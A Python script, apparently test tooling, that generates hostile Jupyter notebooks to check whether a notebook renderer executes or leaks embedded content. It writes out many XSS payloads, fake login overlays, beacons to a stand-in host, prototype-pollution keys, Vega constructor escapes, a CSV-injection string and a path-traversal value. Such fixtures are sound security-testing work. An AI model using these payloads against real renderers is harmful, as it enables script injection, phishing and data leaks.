#!/usr/bin/env python3
"""Writes the hostile notebooks of this folder: python3 make.py

Only the standard library is needed. README.md says what the attacks call and how a test knows that one worked.
"""

import base64
import json
import pathlib
import re
import struct
import zlib

FOLDER = pathlib.Path(__file__).parent
HOST = "http://beacon.example/"


# ---- what an attack does when it works


def run(name):
    """Script that tells the harness that it ran."""
    return f"pwned('{name}')"


def script(name):
    return f"<script>{run(name)}</script>"


def onerror(name):
    return f'<img src="data:," onerror="{run(name)}">'


def percent(text):
    """Brackets as a Markdown link can hold them; a javascript: address is decoded before it runs."""
    return text.replace("(", "%28").replace(")", "%29")


def beacon(name):
    return HOST + name


# ---- notebooks


def output(mime, data, **metadata):
    return {"output_type": "display_data", "data": {mime: data}, "metadata": metadata}


def html(text):
    return output("text/html", text)


def stdout(text):
    return {"output_type": "stream", "name": "stdout", "text": text}


def stderr(text):
    return {"output_type": "stream", "name": "stderr", "text": text}


def result(text):
    return {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": text}, "metadata": {}}


def error(ename, evalue, traceback):
    return {"output_type": "error", "ename": ename, "evalue": evalue, "traceback": traceback}


def scrap(name, data, encoder="json", display=None):
    payload = {"name": name, "data": data, "encoder": encoder, "version": 1}
    mime = f"application/scrapbook.scrap.{encoder if encoder in ('text', 'json') else 'json'}+json"
    outputs = [output(mime, payload, scrapbook={"name": name, "data": True, "display": False})]
    if display:
        outputs.append({"output_type": "display_data", "data": display,
                        "metadata": {"scrapbook": {"name": name, "data": False, "display": True}}})
    return outputs


def code(*outputs, tags=(), source="..."):
    return {"cell_type": "code", "execution_count": 1, "metadata": {"tags": list(tags)} if tags else {},
            "source": source, "outputs": list(outputs)}


def png(width=2, height=2, shade=128):
    """A real picture, grey."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + bytes([shade]) * width for _ in range(height))
    data = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))
    return base64.b64encode(data).decode()


def nested(levels):
    value = "bottom"
    for _ in range(levels):
        value = [value]
    return value


def names_in(text, pattern):
    found = []
    for name in re.findall(pattern, text):
        if name not in found:
            found.append(name)
    return found


written = set()


def write(name, *cells, parameters=None, hides=False, breaks=False, metadata=None, requests=(), figures=None):
    """Writes a notebook. What its attacks do is found in its own text, so that none can be forgotten; hides and breaks
    say what cannot be seen there: the page is covered, or its own script fails. So do requests, whose addresses an expression
    puts together, and figures: what becomes of a figure in a report, by its tag; "" where that depends on its library."""
    document = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    if parameters is not None:
        document["papermill"] = {"parameters": parameters, "version": "2.7.0"}
    document.update(metadata or {})
    # An honest number in each, so that there is something to sort by.
    honest = code(stdout(f"0.{zlib.crc32(name.encode()) % 1000:03}\n"), tags=["score"], source="print(score)")
    everything = json.dumps([cells, document], ensure_ascii=False)
    document["attack"] = {
        "runs": names_in(everything.replace("%28", "(").replace("%29", ")"), r"pwned\('([\w-]+)'\)"),
        "requests": names_in(everything, r"beacon\.example/([\w-]+)") + list(requests),
        "resolves": [host for host in names_in(everything, r"//([\w.-]+\.example)") if host != "beacon.example"],
        "hides": hides,
        "breaks": breaks,
    }
    if figures:
        document["attack"]["figures"] = figures
    everything = {"cells": [honest, *cells], "metadata": document, "nbformat": 4, "nbformat_minor": 4}
    path = FOLDER / f"{name}.ipynb"
    assert path not in written, path
    written.add(path)
    path.write_text(json.dumps(everything, indent=None if name == "deep" else 1) + "\n", encoding="ascii")


# ---- script in HTML


def html_notebooks():
    write("html-script", code(html(script("html-script") + '<p>a paragraph that stays</p>'), tags=["page"]))
    write("html-handlers", code(html(
        onerror("handler-img")
        + f'<svg onload="{run("handler-svg")}"></svg>'
        + f'<details open ontoggle="{run("handler-toggle")}"><summary>more</summary></details>'
        + f'<video><source src="data:," onerror="{run("handler-source")}"></video>'
        + f'<style onload="{run("handler-style")}">p{{}}</style>'
        + f'<iframe srcdoc="" onload="{run("handler-iframe")}"></iframe>'
        + f'<input autofocus onfocus="{run("handler-focus")}">'
        + f'<style>@keyframes k{{}}</style><b style="animation:k 1ms" onanimationstart="{run("handler-animation")}">b</b>'
        + f'<IMG SRC="data:,"\nOnError\t=\t"{run("handler-spelling")}">'
        + f'<img/src="data:,"/onerror={run("handler-slashes")}>'), tags=["handlers"]))
    write("html-frames", code(html(
        f'<iframe srcdoc="&lt;script&gt;parent.{run("frame-srcdoc")}&lt;/script&gt;"></iframe>'
        + f'<iframe src="javascript:parent.{run("frame-javascript")}"></iframe>'
        + f'<iframe src="data:text/html,<script>{run("frame-data")}</script>"></iframe>'
        + f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{run("frame-sandbox")}</script>"></iframe>'
        + f'<iframe src="{beacon("frame-src")}"></iframe>'
        + f'<object data="{beacon("frame-object")}" type="text/html"></object>'
        + f'<embed src="{beacon("frame-embed")}" type="text/html">'), tags=["frames"]))
    write("html-mutation", code(html(
        '<noscript><p title="</noscript>' + onerror("mutation-noscript") + '"></noscript>'
        + '<svg><style>' + onerror("mutation-svg-style") + '</style></svg>'
        + '<math><mi>' + onerror("mutation-math") + '</mi></math>'
        + '<div><template shadowrootmode="open">' + onerror("mutation-shadow") + '</template></div>'
        + '<svg><p><style><!--</style>' + onerror("mutation-comment") + '--></style></p></svg>'), tags=["mutation"]))
    write("html-document", code(html(
        "<!doctype html><html><head><title>mine</title>"
        '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">'
        f'</head><body onload="{run("document-body")}"></body></html>'
        + "</div></section></main></body></html>" + script("document-after")), tags=["document"]))
    write("html-script-network", code(html(
        f"<script>fetch('{beacon('script-fetch')}', {{mode: 'no-cors'}}).catch(() => 0);"
        f"navigator.sendBeacon('{beacon('script-send-beacon')}');"
        f"new Image().src = '{beacon('script-image')}';"
        f"new WebSocket('{beacon('script-websocket').replace('http', 'ws')}');"
        f"const request = new XMLHttpRequest(); request.open('GET', '{beacon('script-xhr')}'); request.send();"
        f"document.title = 'stolen'; {run('script-network')}</script>"), tags=["network"]))
    write("html-clobber", code(html(
        '<img name="getElementById"><img name="querySelector"><form name="createElement"></form>'
        '<form id="control"><input name="dataset"></form><img name="body"><img name="title">'
        '<a id="app"></a><div id="page-data">{}</div><div id="section-1-data">[]</div><div id="section-1"></div>'),
        tags=["clobber"]), breaks=True)
    write("html-plaintext", code(html("<p>from here on all is text<plaintext>"), tags=["plaintext"]), breaks=True)
    write("html-comment", code(html("<p>from here on all is a comment<!--"), tags=["comment"]), breaks=True)
    write("html-unclosed", code(html("<p>from here on all is a title<textarea>"), tags=["unclosed"]), breaks=True)


def html_click_notebooks():
    for name, text in {
        "link-javascript": f'<a href="javascript:{run("link-javascript")}">more</a>',
        "link-spelling": f'<a href=" JaVa&#x0A;Script&colon;{run("link-spelling")}">more</a>',
        "link-svg": f'<svg><a xlink:href="javascript:{run("link-svg")}"><text y="20">more</text></a></svg>',
        "link-animated": f'<svg><a><animate attributeName="href" values="javascript:{run("link-animated")}"/>'
                         '<text y="20">more</text></a></svg>',
        "link-area": '<map name="m"><area shape="default" '
                     f'href="javascript:{run("link-area")}"></map><img usemap="#m" src="data:,">',
        "link-top": f'<a target="_top" href="{beacon("link-top")}">more</a>',
        "link-blank": f'<a target="_blank" rel="opener" href="{beacon("link-blank")}">more</a>',
        "link-ping": f'<a href="{beacon("link-ping-target")}" ping="{beacon("link-ping")}">more</a>',
        "link-download": f'<a download href="{beacon("link-download")}">more</a>',
        "form-submit": f'<form action="{beacon("form-submit")}"><input name="password"><button>log in</button></form>',
        "form-javascript": f'<form action="javascript:{run("form-javascript")}"><button>log in</button></form>',
        "form-formaction": f'<form><button formaction="{beacon("form-formaction")}">log in</button></form>',
        "form-outside": '<button form="f">log in</button>'
                        f'<form id="f" method="post" target="_top" action="{beacon("form-outside")}"></form>',
    }.items():
        write("click-" + name, code(html(text), tags=[name]))


def html_takeover_notebooks():
    write("take-meta-refresh", code(html(f'<meta http-equiv="refresh" content="0;url={beacon("meta-refresh")}">'),
                                    tags=["refresh"]))
    write("take-base", code(html(f'<base href="{HOST}base/"><img src="base-relative.png"><base target="_top">'),
                            tags=["base"]))
    write("take-style-hides", code(html("<style>*{display:none!important}</style>"), tags=["hides"]), hides=True)
    write("take-style-moves", code(html(
        "<style>html,body{transform:translate(-9999px)!important}main,nav,h1{visibility:hidden!important}</style>"),
        tags=["moves"]), hides=True)
    write("take-overlay", code(html(
        '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Your session has expired'
        '<form><input type="password"></form></div>'), tags=["overlay"]), hides=True)
    write("take-dialog", code(html(
        '<dialog open style="position:fixed;top:0;left:0;width:100vw;height:100vh;max-width:none;max-height:none;border:0;'
        'padding:0;z-index:2147483647">Log in</dialog>'), tags=["dialog"]), hides=True)


# ---- requests without script


def beacon_notebooks():
    elements = {
        "img": '<img src="{}">', "srcset": '<img srcset="{} 1x">',
        "picture": '<picture><source srcset="{}"><img src="data:,"></picture>',
        "input": '<input type="image" src="{}">', "poster": '<video poster="{}"></video>', "video": '<video src="{}" autoplay></video>',
        "audio": '<audio src="{}" autoplay></audio>', "media-source": '<audio><source src="{}"></audio>',
        "stylesheet": '<link rel="stylesheet" href="{}">', "preload": '<link rel="preload" as="image" href="{}">',
        "prefetch": '<link rel="prefetch" href="{}">', "modulepreload": '<link rel="modulepreload" href="{}">',
        "background": '<table background="{}"><tr><td>1</td></tr></table>',
        "svg-image": '<svg><image href="{}"/></svg>', "svg-feimage": '<svg><filter id="x"><feImage href="{}"/></filter>'
                     '<rect width="9" height="9" filter="url(#x)"/></svg>',
        "svg-set": '<svg><image width="9" height="9"><set attributeName="href" to="{}"/></image></svg>',
        "script": '<script src="{}"></script>',
    }
    text = "".join(element.format(beacon("element-" + name)) for name, element in elements.items())
    write("beacon-elements", code(html(text), tags=["elements"]))
    write("beacon-css", code(html(
        f"<style>@import url({beacon('css-import')});@import '{beacon('css-import-string')}';"
        f"@font-face{{font-family:spy;src:url({beacon('css-font')})}}"
        f".a{{background:url({beacon('css-background')})}}.b{{font-family:spy}}"
        f".c{{list-style-image:url('{beacon('css-list')}')}}.d::after{{content:url({beacon('css-content')})}}"
        f".e{{border-image:url({beacon('css-border')}) 1}}.f{{mask-image:url({beacon('css-mask')})}}"
        f".g{{background-image:image-set('{beacon('css-image-set')}' 1x)}}"
        f"input[value^=s]{{background:url({beacon('css-selector')})}}</style>"
        '<p class="a">a</p><p class="b">b</p><ul><li class="c">c</li></ul><p class="d">d</p><p class="e">e</p><p class="f">f</p>'
        '<p class="g">g</p><input value="secret">'
        f'<p style="background:url({beacon("css-inline")})">i</p>'), tags=["css"]))
    write("beacon-css-escaped", code(html(
        f"<style>.a{{background:u\\72l({beacon('css-escaped')})}}</style><style>@\\69mport '{beacon('css-escaped-import')}';</style>"
        f'<p class="a">a</p><p style="background:\\75 rl({beacon("css-escaped-inline")})">b</p>'), tags=["escaped_css"]))
    write("beacon-dns", code(html(
        '<link rel="dns-prefetch" href="http://dns-prefetch.lookup.example"><link rel="preconnect" href="http://preconnect.example">'
        '<link rel="dns-prefetch preconnect" href="http://both.lookup.example"><p>names are looked up</p>'), tags=["dns"]))


# ---- other kinds of output


def media_notebooks():
    write("svg-script", code(output(
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="30" '
        f'onload="{run("svg-onload")}"><script>{run("svg-script")}</script>'
        f'<image href="{beacon("svg-image")}" width="9" height="9"/><image xlink:href="{beacon("svg-xlink")}" width="9" height="9"/>'
        f'<style>@import url({beacon("svg-import")});</style>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{beacon("svg-iframe")}"></iframe></foreignObject>'
        f'<rect width="60" height="30" fill="#888"><set attributeName="x" to="0" onbegin="{run("svg-begin")}"/></rect></svg>'),
        tags=["chart"]))
    write("svg-link", code(output(
        "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30">'
        f'<a href="javascript:{run("svg-link")}"><rect width="60" height="30"/></a></svg>'), tags=["linked_chart"]))
    write("svg-overlay", code(output(
        "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30" '
        'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"><rect width="100%" height="100%"/></svg>'),
        tags=["large_chart"]), hides=True)
    write("svg-data-url", code(html("".join(
        f'<{tag}="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=&quot;{run("svg-data-" + name)}&quot;/>">{end}'
        for name, tag, end in [("iframe", "iframe src", "</iframe>")])), tags=["data_url"]))
    write("png-base64", code(output("image/png", png() + '">' + script("png-base64")), tags=["not_base64"]),
          code(output("image/png", '" onerror="' + run("png-attribute") + '" x="'), tags=["not_a_picture"]),
          code(output("image/png", png()), tags=["a_picture"]))
    write("mime-type", code(output('image/x"><img src="data:," onerror="' + run("mime-image") + '">', png()), tags=["odd_image"]),
          code(output("text/x<script>" + run("mime-text") + "</script>", "text"), tags=["odd_text"]))
    write("javascript", code(output("application/javascript", run("application-javascript")), tags=["javascript"]),
          code({"output_type": "display_data", "metadata": {}, "data": {
              "application/javascript": run("javascript-beside"), "text/plain": "<b>beside</b>"}}, tags=["beside"]))


def markup_notebooks():
    write("markdown-html", code(output(
        "text/markdown", "# A title\n\n" + script("markdown-script") + "\n\n" + onerror("markdown-img")
        + f'\n\n<details open ontoggle="{run("markdown-toggle")}">more</details>\n\nThe *end*.'), tags=["notes"]))
    write("markdown-links", code(output(
        "text/markdown", f"[a](javascript:{percent(run('markdown-link'))})\n\n"
        f"[e][ref]\n\n[ref]: javascript:{run('markdown-ref')}\n\n"
        f"![b]({beacon('markdown-image')})\n\n"
        f'![c]({beacon("markdown-title")} "title\\" onerror=\\"alert(1)")\n'), tags=["links"]))
    write("markdown-takes", code(output("text/markdown", "Some text\n\n<style>*{display:none!important}</style>\n"), tags=["styled"]), hides=True)
    write("latex", code(output("text/latex", "$$\\href{javascript:alert(1)}{x}$$" + script("latex-script")), tags=["formula"]))


def figure_notebooks():
    title = onerror("plotly-title")
    plotly = {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "text": [onerror("plotly-text")],
                        "name": "</script>" + script("plotly-island")}],
              "layout": {"title": {"text": title}, "images": [{"source": beacon("plotly-image")}]}, "config": {"plotlyServerURL": HOST}}
    write("plotly", code(output("application/vnd.plotly.v1+json", plotly), tags=["plotly_chart"]),
          code({"output_type": "display_data", "metadata": {}, "data": {
              "application/vnd.plotly.v1+json": plotly, "image/png": png(), "text/html": script("plotly-html")}}, tags=["plotly_static"]))
    vega = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "point", "title": {"text": onerror("vega-title")},
            "data": {"url": beacon("vega-data")}, "usermeta": {"embedOptions": {"loader": {"baseURL": HOST}}},
            "description": "</script>" + script("vega-island")}
    write("vega", code(output("application/vnd.vegalite.v5+json", vega), tags=["vega_chart"]))
    write("widget", code({"output_type": "display_data", "metadata": {}, "data": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + script("widget-model"), "version_major": 2},
        "text/plain": "IntSlider()", "text/html": script("widget-html")}}, tags=["widget"]))


def figure(mime, spec, tag):
    return code(output(mime, spec), tags=[tag])


def spec_notebooks():
    """Specifications for the libraries themselves. What asks for something does so when the library draws it; what brings
    script waits for a page that takes a text for HTML, an address for a link, an expression for code."""
    plotly, vega, vegalite = (f"application/vnd.{name}+json" for name in ("plotly.v1", "vega.v5", "vegalite.v5"))
    image = {"x": 0, "y": 1, "sizex": 1, "sizey": 1}
    write("figure-plotly-requests",
          figure(plotly, {"data": [{"y": [1, 2]}], "layout": {"images": [{"source": beacon("spec-image"), **image}]}}, "spec_image"),
          figure(plotly, {"data": [{"y": [1, 2]}], "layout": {"template": {"layout": {"images": [
              {"name": "a", "source": beacon("spec-template"), **image}]}}}}, "spec_template"),
          figure(plotly, {"data": [{"type": "scattergeo", "lon": [1], "lat": [2]}],
                          "config": {"topojsonURL": beacon("spec-topojson/")}}, "spec_globe"),
          figure(plotly, {"data": [{"type": "choropleth", "locations": ["a"], "z": [1], "geojson": beacon("spec-geojson")}]}, "spec_geojson"),
          figures={"spec_image": "drawn", "spec_template": "drawn", "spec_globe": "drawn", "spec_geojson": "refused"})
    write("figure-plotly-text", figure(plotly, {
        "data": [{"type": "bar", "y": [1, 2], "text": [f'<a href="javascript:{run("spec-link")}">a</a>', onerror("spec-text")],
                  "hovertemplate": onerror("spec-hover")}],
        "layout": {"title": {"text": f'<a href="javascript:{run("spec-title")}" target="_top">t</a><svg onload="{run("spec-svg")}">'
                                     f'<a href="{beacon("spec-address")}" target="_blank">link</a></svg>'},
                   "modebar": {"add": ["sendChartToCloud"]}},
        "config": {"plotlyServerURL": "http://cloud.invalid", "showSendToCloud": True}}, "spec_text"),
        figures={"spec_text": "drawn"})
    deep = {}
    for _ in range(300):
        deep = {"source": [deep]}
    write("figure-plotly-odd",
          figure(plotly, {"data": [{"y": [1, 2], "__proto__": {"polluted": 1}}],
                          "layout": {"constructor": {"prototype": {"polluted": 1}}, "__proto__": {"polluted": 1}}}, "spec_polluted"),
          figure(plotly, {"data": {"length": 1e9}, "layout": [[[]]], "frames": "none"}, "spec_nothing"),
          figure(plotly, {"data": [{"y": [1, 2], "meta": deep}]}, "spec_deep"), breaks=True,
          figures={"spec_polluted": "drawn", "spec_nothing": "", "spec_deep": ""})
    square = {"width": {"value": 50}, "height": {"value": 50}}
    write("figure-vega-requests",
          figure(vegalite, {"data": {"url": beacon("spec-rows")}, "mark": "point"}, "spec_rows"),
          figure(vega, {"data": [{"name": "a", "url": beacon("spec-table"), "format": {"type": "csv"}}], "marks": []}, "spec_table"),
          figure(vega, {"signals": [{"name": "u", "update": f"'{HOST}' + 'spec-signal'"}],
                        "data": [{"name": "a", "url": {"signal": "u"}}], "marks": []}, "spec_signal"),
          figure(vega, {"width": 50, "height": 50, "marks": [{"type": "image", "encode": {"enter": {
              "url": {"value": beacon("spec-mark")}, **square}}}]}, "spec_mark"), requests=["spec-signal"],
          figures={"spec_rows": "refused", "spec_table": "refused", "spec_signal": "refused", "spec_mark": "drawn"})
    write("figure-vega-code",
          figure(vega, {"width": 50, "height": 50, "marks": [], "signals": [
              {"name": "s", "update": f'[].constructor.constructor("{run("spec-constructor")}")()'}]}, "spec_constructor"),
          figure(vega, {"width": 50, "height": 50, "marks": [], "signals": [
              {"name": "s", "init": "{toString: pwned}", "update": f'\'\'.constructor.constructor("{run("spec-prototype")}")()'}]}, "spec_prototype"),
          figures={"spec_constructor": "", "spec_prototype": "failed"})
    write("figure-vega-links",
          figure(vega, {"width": 50, "height": 50, "marks": [{"type": "rect", "encode": {"enter": {
              "href": {"value": f"javascript:{run('spec-href')}"}, **square, "fill": {"value": "red"},
              "tooltip": {"value": onerror("spec-tooltip")}}}}]}, "spec_href"), figures={"spec_href": "drawn"})
    write("figure-vega-click",
          figure(vegalite, {"data": {"values": [{"a": 1, "u": beacon("spec-click")}]}, "mark": {"type": "rect", "width": 300, "height": 300},
                            "title": "</text></svg>" + onerror("spec-heading"), "encoding": {"href": {"field": "u"}},
                            "usermeta": {"embedOptions": {"loader": {"baseURL": HOST}, "ast": False}}}, "spec_click"),
          figures={"spec_click": "drawn"})
    write("figure-vega-odd",
          figure(vega, {"data": [{"name": "a", "transform": [{"type": "sequence", "start": 0, "stop": 1e12}]}], "marks": []}, "spec_endless"),
          figure(vega, {"marks": [{"type": "no such mark"}], "signals": [{"name": "a", "update": "b ++ ("}]}, "spec_broken"),
          figure(vegalite, {"mark": 7, "encoding": []}, "spec_nonsense"),
          figures={"spec_endless": "", "spec_broken": "failed", "spec_nonsense": ""})


# ---- names and texts


def name_notebooks():
    names = {
        "key-script": "</script>" + script("key-script"), "key-attribute": '">' + onerror("key-attribute"),
        "key-single": "'>" + onerror("key-single"), "key-title": "</title>" + script("key-title"),
        "key-textarea": "</textarea>" + onerror("key-textarea"), "key-plain": onerror("key-plain"),
    }
    write("key-tag", *[code(stdout(f"{i}\n"), tags=[tag]) for i, tag in enumerate(names.values())])
    write("key-scrap", code(*[part for i, (name, text) in enumerate(names.items())
                              for part in scrap(text.replace("key-", "scrap-"), i)]))
    odd = ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "page-data", "section-1", "app", "#", "a.b[0]",
           "javascript:alert(1)", "=cmd|' /C calc'!A0", "+1", "@sum", "\u202egnp.exe", "\u2028", "\ud83d\ude08", " ", "a\nb", "%00", "x" * 500]
    write("key-odd", *[code(stdout(f"{i}.5\n"), tags=[tag]) for i, tag in enumerate(odd)],
          code(html('<table><thead><tr><th></th><th>__proto__</th><th>constructor</th></tr></thead>'
                    '<tbody><tr><th>toString</th><td>1</td><td>2</td></tr><tr><th>__proto__</th><td>3</td><td>4</td></tr></tbody></table>'),
               tags=["valueOf"]),
          code(html("<b>no table</b>"), tags=["isPrototypeOf"]), code(output("image/png", png()), tags=["propertyIsEnumerable"]))
    write("key-label", code(stdout("1\n"), source="#| label: \"" + onerror("label-img") + "\"\n1"),
          code(stdout("2\n"), source="#| label: fig-</script>" + script("label-script") + "\n2"))
    write("parameters", code(source="x = 1  # " + script("injected-source"), tags=["injected-parameters"]), parameters={
        "</script>" + script("parameter-name"): 1, "value": "</script>" + script("parameter-value"), "attribute": '" ' + onerror("parameter-attribute"),
        "nested": {onerror("parameter-nested"): [script("parameter-element")]}, "__proto__": {"polluted": 1}, "../../etc/passwd": "../../etc/passwd"})
    write("metadata", code(stdout("1\n"), tags=["n"]), metadata={
        "kernelspec": {"name": script("kernel-name"), "display_name": "</script>" + script("kernel-display"), "language": "python"},
        "language_info": {"name": onerror("language-name"), "version": script("language-version")},
        "title": script("metadata-title"), "authors": [{"name": onerror("metadata-author")}],
        "papermill": {"parameters": {}, "duration": 1.5, "start_time": script("start-time"), "exception": script("exception"),
                      "environment_variables": {}, "input_path": script("input-path"), "output_path": onerror("output-path")}})
    write("traceback", code(error(
        onerror("error-name"), "</pre></script>" + script("error-value"),
        ["\x1b[0;31m" + "-" * 30 + "\x1b[0m", "\x1b[1m" + onerror("error-traceback") + "\x1b[0m",
         "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\", '\x1b[38;2;1;2;3;"><img src=x>m' + script("error-ansi") + "\x1b[999999999999mx",
         "</pre><style>*{display:none!important}</style>"]), tags=["fails"]), hides=True)
    write("text", code(stdout("</script>" + script("text-script") + "\n</style></title></textarea></template>]]>\n"), tags=["printed"]),
          code(stdout("line\u2028separator\u2029paragraph\u0085next\x00nul\x08\x1b[2J\u202eright to left\ufeff\ud800 lone\n"), tags=["odd_text"]),
          code(result("'" + onerror("text-repr") + "'"), tags=["repr"]),
          code(result("<" + "b" * 100_000), tags=["one_word"]),
          code(stderr(onerror("text-stderr")), tags=["only_stderr"]))
    write("text-comment", code(stdout("a\n<!--<script>\nb\n"), tags=["said"]), breaks=True)
    write("table", code(html(
        '<table border="1" class="dataframe" onclick="alert(1)"><caption>' + onerror("table-caption") + "</caption>"
        "<thead><tr><th></th><th>" + onerror("table-column") + '</th><th onmouseover="alert(1)">score</th></tr></thead><tbody>'
        "<tr><th>" + onerror("table-index") + "</th><td>" + script("table-cell") + "one</td><td>0.5</td></tr>"
        f'<tr><th>b</th><td><a href="javascript:{run("table-link")}">two</a></td><td style="background:url({beacon("table-style")})">0.25</td></tr>'
        '<tr><th>c</th><td>&lt;script&gt;escaped&lt;/script&gt;</td><td colspan="1">1e999</td></tr></tbody></table>'), tags=["scores"]),
        code(html('<table><tr><td colspan="4000000000" rowspan="4000000000">1</td></tr><tr><td rowspan="0">2</td><td colspan="-1">3</td></tr></table>'),
             tags=["spans"]),
        code(html("<table><tr><td>" * 200 + "deep" + "</td></tr></table>" * 200), tags=["tables_in_tables"]))


def value_notebooks():
    write("json", code(output("application/json", {
        "island": "</script>" + script("json-island"), "html": [onerror("json-element")], onerror("json-key"): 1,
        "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "toString": 1, "": {"": [None, True]},
        }), tags=["settings"]), breaks=True)
    write("json-comment", code(output("application/json", {"a": "<!--<script>", "b": 1}), tags=["comments"]), breaks=True)
    quotes = '"' * 3
    write("python", code(result(
        "{'__proto__': {'polluted': 1}, 'constructor': 2, 'hasOwnProperty': 3, " + quotes + onerror("dict-key") + quotes
        + ": 4, 'value': " + quotes + script("dict-value") + quotes + ", 'a.b': 5, '': 6, 'x[0]': 7}"), tags=["repr_of_dict"]),
        code(result("[" + quotes + onerror("list-element") + quotes + ", '__proto__']"), tags=["repr_of_list"]),
        code(result("__import__('os').system('touch pwned')"), tags=["repr_of_call"]))
    write("numbers", *[code(stdout(text + "\n"), tags=[name]) for name, text in {
        "huge": "1e400", "huge_int": "9" * 4000, "minus_zero": "-0.0", "nan": "nan", "inf": "inf", "minus_inf": "-inf", "tiny": "5e-324",
        "not_quite": "1" * 30 + "e" + "9" * 20, "hex": "0x" + "f" * 100, "underscores": "1_000_000"}.items()],
        code(result("[" + ", ".join(str(10 ** (i * 17 % 300)) for i in range(200)) + "]"), tags=["spread"]))
    write("deep", code(output("application/json", nested(900)), tags=["deep_json"]),
          code(result("[" * 900 + "1" + "]" * 900), tags=["deep_list"]), code(result("{'a': " * 900 + "1" + "}" * 900), tags=["deep_dict"]),
          code(result("(" * 5000 + ")" * 5000), tags=["deeper"]))
    write("scraps", code(
        *scrap("scrap_text", "</script>" + script("scrap-text"), encoder="text"),
        *scrap("scrap_display", 1, display={"text/html": script("scrap-display") + "shown", "text/plain": "shown"}),
        *scrap("scrap_pandas", '">' + onerror("scrap-pandas"), encoder="pandas"),
        *scrap("scrap_data", "</script>" + script("scrap-data"), encoder="json"),
        output("application/papermill.record+json", {onerror("record-name"): onerror("record-value")})))
    write("wide", *[code(stdout(f"{i}\n"), tags=[f"key_{i:03}"]) for i in range(60)],
          code(result("{" + ", ".join(f"'k{i}': {i}" for i in range(300)) + "}"), tags=["many"]))


for make in (html_notebooks, html_click_notebooks, html_takeover_notebooks, beacon_notebooks, media_notebooks,
             markup_notebooks, figure_notebooks, spec_notebooks, name_notebooks, value_notebooks):
    make()
for stale in set(FOLDER.glob("*.ipynb")) - written:
    stale.unlink()
